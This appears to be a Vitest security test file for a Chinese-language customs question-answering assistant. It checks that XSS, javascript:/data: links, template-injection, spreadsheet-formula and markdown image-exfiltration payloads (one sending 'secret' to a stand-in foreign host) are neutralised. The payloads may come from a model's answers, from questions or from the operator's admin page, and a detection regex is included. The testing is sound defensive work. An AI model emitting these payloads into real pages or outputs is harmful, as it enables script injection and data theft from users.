import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createKeys } from '../../records/keys.js'
import { TEST_DATABASES, type TestDatabase } from '../../records/test-databases.fixture.js'
import { answerFaults } from '../answer-faults.js'
import { closeTestAssistant, openTestAssistant } from '../open-test-assistant.js'
import { promptSentences } from '../prompt-sources.js'
import { readAnswerEvents } from '../read-events.js'
import { serveAssistant, type ServedAssistant } from '../served-assistant.js'
import { foreignAddressesIn, wordsOf } from './answer-text.js'
import { FOREIGN_HOST } from './attacks.fixture.js'

const TIMEOUT_MS = 120_000
const QUESTION = '免税进口的科研仪器设备换地点使用，每次都要报大连海关吗？'

/** What a page that trusts a text would run, load or follow. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  `<iframe src="https://${FOREIGN_HOST}/"></iframe>`,
  '<a href="javascript:alert(1)">大连海关</a>',
  '[大连海关](javascript:alert(1))',
  '[大连海关](data:text/html;base64,PHNjcmlwdD4=)',
  '[大连海关](vbscript:msgbox(1))',
  `[官网](https://${FOREIGN_HOST}/login)`,
  `![图](https://${FOREIGN_HOST}/p.png?d=secret)`,
  `![图][1]\n\n[1]: https://${FOREIGN_HOST}/p.png`,
  `<https://${FOREIGN_HOST}/auto>`,
  `https://${FOREIGN_HOST}/bare`,
  '"><style>*{display:none}</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202egnp.exe',
  '=HYPERLINK("https://collector.invalid","x")',
]

/** Signs of markup that an answer never needs. */
const MARKUP = /<\/?[a-z!]|javascript:|vbscript:|data:text|onerror|onload|!\[|\]\(|\u202e/iu

const opened = await openTestAssistant()
const { corpus } = opened.open
const pglite = TEST_DATABASES.find(({ kind }) => kind === 'pglite')
let payload = ''
let database: TestDatabase
let served: ServedAssistant
beforeAll(async () => {
  if (pglite === undefined) throw new Error('expected PGlite')
  database = await pglite.open()
  served = await serveAssistant(opened, {
    database: database.database,
    script: (body) => {
      const sentence = promptSentences(body).find(({ index }) => index > 0)
      const words = sentence?.text.replace(/。$/u, '') ?? ''
      const mark = sentence?.mark ?? ''
      return [
        { text: `${words}${mark}。\n` },
        { text: `${words}${payload}${mark}。\n` },
        { text: `${payload}${mark}\n` },
        { text: `${payload}\n` },
      ]
    },
  })
}, TIMEOUT_MS)
afterAll(async () => {
  await served.close()
  await closeTestAssistant()
  await database.remove()
})

describe('LLM05 improper output handling', { timeout: TIMEOUT_MS }, () => {
  test.each(PAYLOADS)('%s in a model’s answer is not passed on', async (one) => {
    payload = one
    const answer = await served.ask({ question: QUESTION, mode: 'generative', trace: true })
    expect(answer.mode).toBe('generative')
    expect(answerFaults(answer, corpus)).toEqual([])
    const { trace, ...shown } = answer
    expect(JSON.stringify(trace)).toContain('generation')
    expect(foreignAddressesIn(shown, corpus)).toEqual([])
    expect(shown.text).not.toMatch(MARKUP)
    expect(wordsOf(shown)).not.toContain('alert(1)')
    expect(wordsOf(shown)).not.toContain(FOREIGN_HOST)

    const stream = await served.post(
      { question: QUESTION, mode: 'generative' },
      { accept: 'text/event-stream' },
    )
    const events = readAnswerEvents(await stream.text())
    const text = events.map((event) => (event.type === 'answer-delta' ? event.text : '')).join('')
    expect(text).toBe(shown.text)
  })

  test.each(PAYLOADS)('%s in a question comes back as data at most', async (one) => {
    const response = await served.post({ question: `${one} ${QUESTION}`, mode: 'extractive' })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/^application\/json\b/)
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
    const answer = (await response.json()) as Parameters<typeof wordsOf>[0]
    expect(answer.text).not.toMatch(MARKUP)
    expect(foreignAddressesIn(answer, corpus)).toEqual([])
    expect(wordsOf(answer)).not.toContain('alert(1)')
  })

  test('a refusal that repeats a path or a field is no page', async () => {
    for (const path of ['/%3Cscript%3Ealert(1)%3C/script%3E', '/api/v1/documents/%3Csvg%3E']) {
      const response = await fetch(`${served.url}${path}`, { headers: { accept: 'text/html,*/*' } })
      expect(response.status).toBeGreaterThanOrEqual(400)
      expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/)
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    }
    const field = await served.post({ question: QUESTION, ['<script>alert(1)</script>']: 1 })
    expect(field.status).toBe(400)
    expect(field.headers.get('content-type')).toMatch(/^application\/problem\+json/)
  })

  test('the operator’s page and table show what was asked as text', async () => {
    const keys = createKeys(database.database)
    const { text } = await keys.create({ name: 'operator', scopes: ['admin'] })
    const form = await fetch(`${served.url}/admin/session`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ key: text }),
      redirect: 'manual',
    })
    const cookie = form.headers.get('set-cookie')?.split(';')[0] ?? ''
    expect(cookie).not.toBe('')
    for (const one of PAYLOADS) await served.ask({ question: `天气 ${one}`, mode: 'extractive' })
    await expect.poll(() => served.records?.status().queued).toBe(0)
    const page = await fetch(`${served.url}/admin`, { headers: { cookie } })
    expect(page.status).toBe(200)
    const html = await page.text()
    // They stand there, or nothing was tested.
    expect(html).toContain('alert(1)')
    expect(html).not.toMatch(
      /<script>alert|<img src=x|<svg\/onload|<iframe|href="(?:javascript|data|vbscript):/iu,
    )
    expect(html).not.toMatch(new RegExp(`(?:src|href)="[^"]*${FOREIGN_HOST}`, 'u'))
    expect(page.headers.get('content-security-policy')).not.toMatch(/script-src[^;]*unsafe-inline/)
  })
})
